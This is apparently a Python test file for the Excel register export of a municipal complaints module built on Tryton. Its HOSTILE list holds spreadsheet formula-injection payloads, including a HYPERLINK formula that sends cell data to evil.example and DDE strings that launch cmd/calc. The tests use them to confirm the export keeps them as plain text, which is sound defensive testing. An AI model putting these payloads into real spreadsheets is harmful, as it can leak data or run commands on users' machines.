# This file is part of Klachten.  The COPYRIGHT file at the top level of
# this repository contains the full copyright notices and license terms.
"""The complaints register read back with openpyxl, as the coordinator
opens it in a spreadsheet."""
import datetime as dt
import io
import threading
import unittest
from collections import Counter

from openpyxl import load_workbook

from klachten_base.tests.tools import (
    admit, create_complainant, create_complaint, run_wizard, set_user,
    setup_municipality, travel, xml_id)
from proteus import Model, Report, Wizard
from proteus import config as pconfig
from trytond import backend
from trytond.pool import Pool
from trytond.tests.test_tryton import DB_NAME, drop_db
from trytond.tests.tools import activate_modules
from trytond.transaction import Transaction

from .. import registry
from ..registry import COLUMNS

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Klik hier")',
    '+cmd|\' /C calc\'!A0',
    '@SUM(1+1)*cmd|\' /C calc\'!A0',
    '-1+1',
    '=1+1',
    '\tTab at the start',
    ]
COLUMN = {key: i for i, (key, _, _) in enumerate(COLUMNS)}


def state_string(complaint):
    selection = complaint._fields['state']['selection']
    return dict(selection)[complaint.state]


class RegisterTestCase(unittest.TestCase):
    "The complaints register in Excel"

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        activate_modules('klachten_report')
        cls.config = pconfig.get_config()
        cls.ns = setup_municipality()
        set_user('klachtenadmin')
        configuration = Model.get('klachten.configuration')(1)
        configuration.letter_mode = 'never'
        configuration.save()
        cls.make_data()

    @classmethod
    def tearDownClass(cls):
        drop_db()
        super().tearDownClass()

    @classmethod
    def make_data(cls):
        "Complaints in every phase, some with hostile descriptions"
        set_user('coordinator')
        Ground = Model.get('klachten.inadmissibility_ground')
        Remedy = Model.get('klachten.remedy')
        Complaint = Model.get('klachten.complaint')
        party = create_complainant("Register Test", None)
        start = dt.date.today() - dt.timedelta(days=60)
        cls.hostile = {}
        for i, description in enumerate(HOSTILE):
            complaint = create_complaint(party, channel='letter',
                received_date=start + dt.timedelta(days=i),
                short_description=description)
            cls.hostile[complaint.id] = description
        inadmissible = create_complaint(party, channel='phone',
            received_date=start)
        run_wizard('inadmissible', inadmissible,
            grounds=[Ground(xml_id('ground_older_than_year')),
                Ground(xml_id('ground_not_complaint'))],
            motivation="Te oud.")
        complaint = create_complaint(party, channel='counter',
            received_date=start + dt.timedelta(days=10))
        # its terms suspended 5 days while the complainant was asked
        with travel(-5):
            run_wizard('request_information', complaint,
                question="Welk loket?", suspend=True)
        request = Model.get('klachten.information.request')(
            complaint.information_requests[0].id)
        request.answer = "Het tweede."
        request.save()
        request.click('record_answer')
        admit(complaint, cls.ns)
        set_user('handler1')
        complaint = Complaint(complaint.id)
        complaint.outcome = 'founded'
        complaint.solution = "Opgelost."
        complaint.remedies.append(Remedy(xml_id('remedy_apology')))
        complaint.remedies.append(Remedy(xml_id('remedy_repair')))
        complaint.save()
        complaint.click('finalise_report')
        set_user('coordinator')
        run_wizard('conclude', Complaint(complaint.id), conclusion="Klaar.",
            inform=False)
        # one still under investigation
        admit(create_complaint(party, channel='counter'), cls.ns)
        draft = create_complaint(party, register=False)
        cls.draft = draft
        cancelled = create_complaint(party, received_date=start)
        run_wizard('cancel', cancelled, reason="Dubbel.")

    def export(self, complaints=None, data=None):
        result = Report('klachten.complaint.register').execute(
            complaints, data)
        extension, content, direct_print, name = result
        self.assertEqual(extension, 'xlsx')
        return load_workbook(io.BytesIO(bytes(content)))

    def rows(self, workbook):
        sheet = workbook.worksheets[0]
        return list(sheet.iter_rows(min_row=2))

    def test_register(self):
        "Every registered complaint once, equal to the database"
        set_user('coordinator', self.config)
        Complaint = Model.get('klachten.complaint')
        complaints = Complaint.find([('state', '!=', 'draft')])
        workbook = self.export(complaints)
        sheet, totals = workbook.worksheets
        self.assertEqual(sheet.freeze_panes, 'B2')
        rows = self.rows(workbook)
        self.assertEqual(sheet.auto_filter.ref,
            f'A1:{sheet.cell(1, len(COLUMNS)).column_letter}{len(rows) + 1}')
        by_number = Counter(r[COLUMN['number']].value for r in rows)
        self.assertEqual(by_number,
            Counter(c.number for c in complaints))

        for row in rows:
            complaint, = [c for c in complaints
                if c.number == row[COLUMN['number']].value]
            values = {k: row[i].value for k, i in COLUMN.items()}
            for cell in row:
                self.assertNotEqual(cell.data_type, 'f', cell.value)
            received = row[COLUMN['received_date']]
            self.assertTrue(received.is_date)
            self.assertEqual(received.value.date(), complaint.received_date)
            decided = row[COLUMN['decision_date']]
            if complaint.decision_date:
                self.assertTrue(decided.is_date)
                self.assertEqual(decided.value.date(),
                    complaint.decision_date)
                self.assertEqual(values['days_taken'],
                    (complaint.decision_date - complaint.received_date).days)
                self.assertEqual(values['within_term'],
                    "Yes" if complaint.within_term else "No")
            else:
                self.assertIsNone(decided.value)
            self.assertEqual(values['state'], state_string(complaint))
            self.assertEqual(values['short_description'],
                complaint.short_description)
            self.assertEqual(values['channel'],
                dict(Complaint._fields['channel']['selection'])[
                    complaint.channel])
            self.assertEqual(values['inadmissibility_grounds'],
                '; '.join(g.rec_name for g in
                    complaint.inadmissibility_grounds) or None)
            self.assertEqual(sorted((values['remedies'] or '').split('; ')),
                sorted([r.rec_name for r in complaint.remedies] or ['']))
            self.assertEqual(values['handler'],
                complaint.handler_user.rec_name
                if complaint.handler_user else None)
            self.assertEqual(values['extension_count'],
                complaint.extension_count or 0)
            self.assertEqual(values['suspended_days'],
                complaint.suspended_days or 0)
            if complaint.id in self.hostile:
                self.assertEqual(
                    row[COLUMN['short_description']].data_type, 's')

        suspended = [r[COLUMN['suspended_days']].value for r in rows]
        self.assertEqual(sorted(suspended)[-1], 5)

        # the totals
        total = {r[0].value: r[1].value if len(r) > 1 else None
            for r in totals.iter_rows()}
        self.assertEqual(total["Complaints"], len(complaints))
        for state, count in Counter(
                state_string(c) for c in complaints).items():
            self.assertEqual(total[state], count)
        decided = [c for c in complaints if c.decision_date]
        self.assertEqual(total["Decided Complaints"], len(decided))
        self.assertAlmostEqual(total["Average Days"], round(
                sum((c.decision_date - c.received_date).days
                    for c in decided) / len(decided), 1))

    def test_hostile_text_stays_text(self):
        "Formulas typed by a citizen come out as the same text"
        set_user('coordinator', self.config)
        Complaint = Model.get('klachten.complaint')
        complaints = [Complaint(i) for i in self.hostile]
        rows = self.rows(self.export(complaints))
        self.assertEqual(len(rows), len(HOSTILE))
        found = {r[COLUMN['short_description']].value: r for r in rows}
        self.assertEqual(sorted(found),
            sorted(c.short_description for c in complaints))
        self.assertIn(HOSTILE[0], found)
        for row in rows:
            cell = row[COLUMN['short_description']]
            self.assertEqual(cell.data_type, 's')

    def test_wizard_filters_and_rules(self):
        "The wizard's filters, and only what the user may see"
        set_user('coordinator', self.config)
        Complaint = Model.get('klachten.complaint')
        start = dt.date.today() - dt.timedelta(days=60)
        wizard = Wizard('klachten.complaint.register.export')
        self.assertEqual(wizard.form.scope, 'filters')
        wizard.form.from_date = start + dt.timedelta(days=1)
        wizard.form.to_date = start + dt.timedelta(days=3)
        wizard.execute('export')
        (extension, content, _, name), = wizard.actions
        rows = self.rows(load_workbook(io.BytesIO(bytes(content))))
        expected = Complaint.find([
                ('received_date', '>=', start + dt.timedelta(days=1)),
                ('received_date', '<=', start + dt.timedelta(days=3)),
                ])
        self.assertEqual(len(expected), 3)
        self.assertEqual(sorted(r[0].value for r in rows),
            sorted(c.number for c in expected))

        # the listed records, drafts left out
        listed = Complaint.find([])
        self.assertIn(self.draft.id, [c.id for c in listed])
        wizard = Wizard('klachten.complaint.register.export', listed)
        self.assertEqual(wizard.form.scope, 'records')
        self.assertEqual(wizard.form.record_count, len(listed))
        wizard.execute('export')
        (_, content, _, _), = wizard.actions
        rows = self.rows(load_workbook(io.BytesIO(bytes(content))))
        self.assertEqual(len(rows), len(listed) - 1)

        # a handler gets the complaints they handle, no others
        set_user('handler1', self.config)
        wizard = Wizard('klachten.complaint.register.export')
        wizard.form.states = ['closed']
        wizard.execute('export')
        (_, content, _, _), = wizard.actions
        rows = self.rows(load_workbook(io.BytesIO(bytes(content))))
        visible = Model.get('klachten.complaint').find(
            [('state', '=', 'closed')])
        self.assertEqual(len(rows), len(visible))
        self.assertEqual(len(rows), 1)
        self.assertTrue(all(r[COLUMN['handler']].value == "Handler1"
                for r in rows))

    def test_batches_complete_in_order_errors_raised(self):
        """A register of many batches has every row once, in order; a row
        that cannot be read fails the export; a stopped export stops
        reading (PostgreSQL reads the next batch in a thread)"""
        with Transaction().start(DB_NAME, 0):
            User = Pool().get('res.user')
            coordinator, = User.search([('login', '=', 'coordinator')])
            user, company = coordinator.id, coordinator.company.id

        def readers():
            return [t for t in threading.enumerate()
                if t.name == 'klachten-register-read']

        batch = registry.BATCH
        registry.BATCH = 3
        try:
            with Transaction().start(DB_NAME, user, context={
                        'company': company, 'language': 'en',
                        '_check_access': True}) as transaction:
                pool = Pool()
                Complaint = pool.get('klachten.complaint')
                Register = pool.get(
                    'klachten.complaint.register', type='report')
                expected = [c.number for c in Complaint.search(
                        [('state', '!=', 'draft')], order=[('id', 'ASC')])]
                self.assertGreater(len(expected), 3 * registry.BATCH)
                workbook = load_workbook(
                    io.BytesIO(Register.render_register([])))
                self.assertEqual(
                    [r[COLUMN['number']].value for r in self.rows(workbook)],
                    expected)
                total = {r[0].value: r[1].value if len(r) > 1 else None
                    for r in workbook.worksheets[1].iter_rows()}
                self.assertEqual(total["Complaints"], len(expected))
                self.assertEqual(readers(), [])

                # the caller stops after the first row: the reading stops
                # and the transaction's connection serves the next query
                rows = Register._rows(Complaint.search(
                        [('state', '!=', 'draft')], order=[], query=True),
                    Register._labels())
                self.assertEqual(next(rows)[COLUMN['number']], expected[0])
                rows.close()
                self.assertEqual(readers(), [])
                self.assertEqual(Complaint.search(
                        [('state', '!=', 'draft')], count=True),
                    len(expected))

                # a date no spreadsheet (nor Python) holds, in the last batch
                table = Complaint.__table__()
                last, = Complaint.search(
                    [('number', '=', expected[-1])])
                transaction.connection.cursor().execute(*table.update(
                        [table.received_date], ['infinity'],
                        where=table.id == last.id))
                # the reading thread's error, not a short register
                with self.assertRaises(
                        (backend.DatabaseDataError, ValueError)):
                    Register.render_register([])
                self.assertEqual(readers(), [])
                transaction.rollback()
        finally:
            registry.BATCH = batch
